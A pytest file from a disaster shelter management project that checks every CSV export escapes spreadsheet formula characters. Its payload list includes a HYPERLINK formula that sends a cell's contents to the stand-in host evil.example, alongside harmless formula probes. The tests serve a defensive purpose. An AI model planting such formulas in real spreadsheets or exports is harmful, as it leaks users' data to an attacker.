"""Every CSV the project writes neutralises cells a spreadsheet would run as a formula.

A shelter-staff account can type ``=HYPERLINK(…)`` into a public note; the city opens the
public CSV, HQ's board, the exports, L-Alert and the event log in Excel. Each file is read
back here and no cell may start with a formula character.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from disaster_dx import auth, hq
from disaster_dx.bundled import ensure_initialised
from disaster_dx.eventlog import log_csv, log_rows
from disaster_dx.io.csv_out import FORMULA_START, csv_document, safe_cell
from disaster_dx.io.export import csv_bytes, shelter_records
from disaster_dx.io.lalert import lalert_csv, lalert_records
from disaster_dx.model import CrowdingThresholds
from disaster_dx.store import Store
from disaster_dx.web.exports import _board_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
]


def cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def assert_inert(data: bytes, payload: str) -> None:
    found = cells(data)
    assert any(payload in cell for cell in found), "the payload must be in the file, as text"
    assert not [c for c in found if c.startswith(FORMULA_START)], found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_one_writer_guards_text_and_leaves_numbers(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload
    assert safe_cell(-5) == -5 and safe_cell(None) == "" and safe_cell("稲生") == "稲生"
    assert_inert(csv_document(["note"], [[payload]]), payload)


@pytest.fixture
def city(store: Store) -> Store:
    ensure_initialised(store, actor="test")
    return store


@pytest.mark.parametrize("payload", PAYLOADS[:2])
def test_every_export_of_a_typed_note_is_inert(city: Store, payload: str) -> None:
    staff = auth.add_user(city, "hq1", "x" * 12, {auth.Role.HQ}, actor="test")
    assert staff is not None
    user = auth.get_user(city, "hq1")
    incident = city.live_incident(actor="test").incident_id
    shelter = city.shelters()[0]
    hq.report_status(
        city,
        incident,
        user,
        shelter.shelter_id,
        {"open_state": "open", "public_note": payload, "internal_note": payload},
        seen_version=0,
    )
    state = city.state(incident)
    shelters = city.shelters()
    thresholds = CrowdingThresholds()
    # the public shelters.csv and `disaster-dx export --format csv`
    assert_inert(csv_bytes(shelter_records(shelters, state, thresholds=thresholds)), payload)
    # the L-Alert CSV (it carries no notes, but every cell goes through the same guard)
    records = lalert_records(shelters, state, thresholds=thresholds)
    records[0] = {**records[0], "避難所名": payload} if "避難所名" in records[0] else records[0]
    assert not [c for c in cells(lalert_csv(records)) if c.startswith(FORMULA_START)]
    # HQ's board CSV (what /hq/export/board.csv writes), with the disaster's name
    rows = hq.board_rows(
        shelters,
        state,
        thresholds=thresholds,
        now=datetime.now(UTC),
        stale_after=timedelta(hours=1),
        urgent_after=timedelta(hours=6),
        lang="ja",
    )
    assert_inert(_board_csv(rows, payload), payload)
    # the event log CSV
    logged = log_csv(log_rows(city.events(incident), {s.shelter_id: s for s in shelters}))
    assert_inert(logged, payload)
